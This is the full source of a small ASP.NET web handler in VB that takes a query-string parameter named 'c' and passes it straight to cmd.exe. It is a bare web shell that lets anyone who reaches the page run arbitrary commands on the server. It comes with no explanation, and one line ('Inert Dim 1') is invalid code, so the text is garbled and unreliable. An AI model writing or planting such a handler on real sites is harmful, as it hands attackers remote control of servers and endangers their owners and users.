<%@ WebHandler Language="VB" Class="H" %>
Imports System.Web
Public Class H : Implements IHttpHandler
Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest
Dim c As String = context.Request.QueryString("c")
Inert Dim 1
Dim p As New System.Diagnostics.Process
p.StartInfo.FileName = "cmd.exe"
p.StartInfo.Arguments = "/c " & c
p.Start()
End Sub
End Class